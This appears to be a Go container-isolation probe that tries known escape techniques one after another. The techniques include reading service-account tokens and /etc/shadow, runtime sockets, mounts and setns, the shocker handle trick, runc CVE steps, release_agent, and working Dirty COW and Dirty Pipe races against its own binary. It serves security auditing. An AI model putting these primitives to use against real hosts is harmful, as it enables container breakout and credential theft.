package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// escapes are those known from practice; each is made as an attacker makes it,
// up to the step that decides.
var escapes = []attack{
	{"service-account-token", tryToken},
	{"rbac-misuse", tryAPIServer},
	{"route-localnet", tryNodesLoopback},
	{"privileged", tryPrivileged},
	{"runtime-socket", tryRuntimeSockets},
	{"host-path", tryHostPaths},
	{"sys-admin", trySysAdmin},
	{"sys-module", trySysModule},
	{"dac-read-search", tryHandles},
	{"CVE-2025-31133", func() outcome { return all(replace("/dev/null"), tryMasked()) }},
	{"CVE-2025-52565", func() outcome { return all(replace("/dev/console"), replace("/dev/ptmx"), tryMasked()) }},
	{"CVE-2025-52881", func() outcome { return all(tryLabels(), tryMasked()) }},
	{"host-pid", tryHostPIDs},
	{"release-agent", tryReleaseAgent},
	{"ebpf", tryBPF},
	{"packet-socket", tryPacketSocket},
	{"dirty-cow", tryDirtyCow},
	{"dirty-pipe", tryDirtyPipe},
}

func writable(path string) outcome {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if errors.Is(err, fs.ErrNotExist) {
		return absent(path)
	}
	if err == nil {
		_ = unix.Close(fd)
	}
	return by(err, path+" can be written")
}

func readable(path string) outcome {
	data, err := os.ReadFile(path)
	switch {
	case errors.Is(err, fs.ErrNotExist):
		return absent(path)
	case err != nil:
		return refused(err)
	case len(data) == 0:
		return refused(fmt.Errorf("%s is covered", path))
	}
	return succeeded(fmt.Sprintf("%s has %d bytes", path, len(data)))
}

func tryToken() outcome {
	parts := []outcome{}
	for _, path := range []string{
		"/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token",
		"/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "/root/.kube/config", "/etc/kubernetes/admin.conf",
		"/var/lib/kubelet/kubeconfig",
	} {
		parts = append(parts, readable(path))
	}
	return all(parts...)
}

func tryAPIServer() outcome {
	host := os.Getenv("KUBERNETES_SERVICE_HOST")
	if host == "" {
		return absent("no API server is named")
	}
	return dial("tcp", net.JoinHostPort(host, os.Getenv("KUBERNETES_SERVICE_PORT")))
}

// The node's own loopback would show through 127.0.0.1 with route_localnet.
func tryNodesLoopback() outcome {
	parts := []outcome{}
	for _, port := range []string{"10248", "10249", "10256", "6443", "2379", "10250"} {
		parts = append(parts, dial("tcp", net.JoinHostPort("127.0.0.1", port)))
	}
	return all(parts...)
}

func status(field string) string {
	data, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(data), "\n") {
		if name, value, ok := strings.Cut(line, ":"); ok && name == field {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

func tryPrivileged() outcome {
	parts := []outcome{by(unix.Mknod("/tmp/disk", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))), "made a block device")}
	for _, field := range []string{"CapEff", "CapPrm", "CapBnd", "CapAmb"} {
		if strings.Trim(status(field), "0") != "" {
			parts = append(parts, succeeded(field+" is "+status(field)))
		}
	}
	for _, device := range []string{"sda", "vda", "nvme0n1", "dm-0", "mem", "kmsg", "kvm", "net/tun", "fuse"} {
		parts = append(parts, writable("/dev/"+device))
	}
	return all(parts...)
}

func tryRuntimeSockets() outcome {
	parts := []outcome{}
	for _, path := range []string{
		"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock",
		"/run/podman/podman.sock", "/run/k3s/containerd/containerd.sock", "/host/run/containerd/containerd.sock",
	} {
		parts = append(parts, dial("unix", path))
	}
	return all(parts...)
}

func tryHostPaths() outcome {
	parts := []outcome{}
	for _, folder := range []string{
		"/", "/etc", "/usr", "/usr/bin", "/var/lib/kubelet", "/etc/kubernetes/manifests", "/etc/cron.d", "/root",
		"/host", "/rootfs", "/proc/1/root", "/proc/1/root/etc", "/proc/1/cwd", "/proc/self/root/etc",
	} {
		path := filepath.Join(folder, "axiom-attacker")
		if strings.HasPrefix(folder, "/proc") {
			path = folder + "/axiom-attacker"
		}
		err := os.WriteFile(path, nil, 0o600)
		if err == nil {
			_ = os.Remove(path)
		}
		parts = append(parts, by(err, "wrote "+path))
	}
	return all(append(parts, readable("/etc/shadow"), readable("/proc/1/root/etc/shadow"))...)
}

func trySysAdmin() outcome {
	_ = os.Mkdir("mountpoint", 0o700)
	defer os.Remove("mountpoint")
	return all(
		by(unix.Mount("none", "mountpoint", "tmpfs", 0, ""), "mounted a tmpfs"),
		by(unix.Mount("/", "mountpoint", "", unix.MS_BIND, ""), "bound /"),
		by(unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS), "made namespaces"),
		by(unix.Chroot("/"), "changed the root"),
		by(unix.Sethostname([]byte("attacker")), "changed the host's name"),
		setns(),
	)
}

func setns() outcome {
	fd, err := unix.Open("/proc/1/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(fd)
	return by(unix.Setns(fd, unix.CLONE_NEWNS), "entered the mounts of PID 1")
}

func trySysModule() outcome {
	return by(unix.InitModule([]byte("\x7fELF"), ""), "loaded a module")
}

// shocker: the root directory of a file system has the inode number 2.
func tryHandles() outcome {
	mount, err := unix.Open(".", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(mount)
	handle := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(mount, handle, unix.O_RDONLY)
	if err == nil {
		_ = unix.Close(fd)
	}
	return by(err, "opened the root of a file system by its handle")
}

// replace puts a link where a runtime may look next time that it masks a path.
func replace(path string) outcome {
	if _, err := os.Lstat(path); err != nil {
		return absent(path)
	}
	aside := path + ".aside"
	if err := os.Rename(path, aside); err == nil {
		_ = os.Rename(aside, path)
		return succeeded(path + " can be replaced")
	}
	return by(os.Symlink("/proc/sys/kernel/core_pattern", aside), "made "+aside)
}

func tryMasked() outcome {
	return all(
		writable("/proc/sysrq-trigger"), writable("/proc/sys/kernel/core_pattern"), writable("/proc/sys/kernel/modprobe"),
		writable("/sys/kernel/uevent_helper"), readableByte("/proc/kcore"), readableByte("/proc/kmsg"),
	)
}

func readableByte(path string) outcome {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(fd)
	if n, err := unix.Read(fd, make([]byte, 1)); err != nil {
		return refused(err)
	} else if n == 0 {
		return refused(fmt.Errorf("%s is covered", path))
	}
	return succeeded(path + " can be read")
}

// A write that a runtime means for a label must not land elsewhere: nothing may
// be put over the file that it writes.
func tryLabels() outcome {
	return all(
		by(unix.Mount("/proc/sys/kernel/core_pattern", "/proc/self/attr/exec", "", unix.MS_BIND, ""), "covered attr/exec"),
		by(unix.Mount("none", "/proc", "proc", 0, ""), "mounted another proc"),
	)
}

func tryHostPIDs() outcome {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return refused(err)
	}
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err != nil {
			continue
		}
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		if name := strings.TrimSpace(string(data)); err == nil &&
			(name == "kthreadd" || name == "systemd" || name == "kubelet" || name == "containerd") {
			return succeeded(fmt.Sprintf("process %d is %s", pid, name))
		}
	}
	return absent("no process of the node is seen")
}

func tryReleaseAgent() outcome {
	_ = os.Mkdir("cgroup", 0o700)
	defer os.Remove("cgroup")
	parts := []outcome{
		by(unix.Mount("cgroup", "cgroup", "cgroup", 0, "memory"), "mounted cgroup v1"),
		by(unix.Mount("cgroup", "cgroup", "cgroup2", 0, ""), "mounted cgroup v2"),
	}
	_ = filepath.WalkDir("/sys/fs/cgroup", func(path string, entry fs.DirEntry, err error) error {
		if err == nil && (entry.Name() == "release_agent" || entry.Name() == "cgroup.procs" || entry.Name() == "memory.max") {
			parts = append(parts, writable(path))
		}
		return nil
	})
	return all(parts...)
}

func tryBPF() outcome {
	attributes := [16]uint32{1, 4, 4, 1} // an array of one number
	fd, _, errno := unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attributes)), unsafe.Sizeof(attributes))
	if errno != 0 {
		return refused(errno)
	}
	_ = unix.Close(int(fd))
	return succeeded("made a map")
}

func tryPacketSocket() outcome {
	parts := []outcome{}
	for _, kind := range []struct{ family, kind, protocol int }{
		{unix.AF_PACKET, unix.SOCK_RAW, 0x0300}, {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, {unix.AF_NETLINK, unix.SOCK_RAW, 0},
		{unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
	} {
		fd, err := unix.Socket(kind.family, kind.kind, kind.protocol)
		if err == nil {
			_ = unix.Close(fd)
		}
		parts = append(parts, by(err, fmt.Sprintf("a socket of family %d", kind.family)))
	}
	return all(parts...)
}

// The target of both: our own program, which we may read and not write.
func original() (string, []byte) {
	path, err := os.Executable()
	check(err)
	file, err := os.Open(path)
	check(err)
	defer file.Close()
	first := make([]byte, 4096)
	_, err = file.Read(first)
	check(err)
	return path, first
}

func unchanged(path string, first []byte) outcome {
	now, err := os.ReadFile(path)
	check(err)
	if !bytes.Equal(now[:len(first)], first) {
		return succeeded(path + " was changed")
	}
	return refused(errors.New("the file is as it was"))
}

// dirty-cow: a write through /proc/self/mem to a private mapping races with its
// being thrown away. Kernels since 4.9 are not to be tricked.
func tryDirtyCow() outcome {
	path, first := original()
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	check(err)
	defer unix.Close(fd)
	mapped, err := unix.Mmap(fd, 0, len(first), unix.PROT_READ, unix.MAP_PRIVATE)
	check(err)
	defer func() { _ = unix.Munmap(mapped) }()
	memory, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return refused(err)
	}
	defer memory.Close()
	until := time.Now().Add(time.Second)
	done := make(chan struct{})
	go func() {
		for time.Now().Before(until) {
			_ = unix.Madvise(mapped, unix.MADV_DONTNEED)
		}
		close(done)
	}()
	for time.Now().Before(until) {
		_, _ = memory.WriteAt([]byte("moo"), int64(uintptr(unsafe.Pointer(&mapped[8]))))
	}
	<-done
	return unchanged(path, first)
}

// dirty-pipe: a pipe's buffers keep the flag that they may be written to, and
// then hold a page of a file. Kernels since 5.16.11 clear it.
func tryDirtyPipe() outcome {
	path, first := original()
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	check(err)
	defer unix.Close(fd)
	ends := make([]int, 2)
	check(unix.Pipe2(ends, unix.O_CLOEXEC))
	defer unix.Close(ends[0])
	defer unix.Close(ends[1])
	size, err := unix.FcntlInt(uintptr(ends[0]), unix.F_GETPIPE_SZ, 0)
	check(err)
	block := make([]byte, size)
	_, err = unix.Write(ends[1], block)
	check(err)
	for got := 0; got < size; {
		n, err := unix.Read(ends[0], block)
		check(err)
		got += n
	}
	offset := int64(7)
	if _, err := unix.Splice(fd, &offset, ends[1], nil, 1, 0); err != nil {
		return refused(err)
	}
	_, err = unix.Write(ends[1], []byte("dirty"))
	check(err)
	return unchanged(path, first)
}
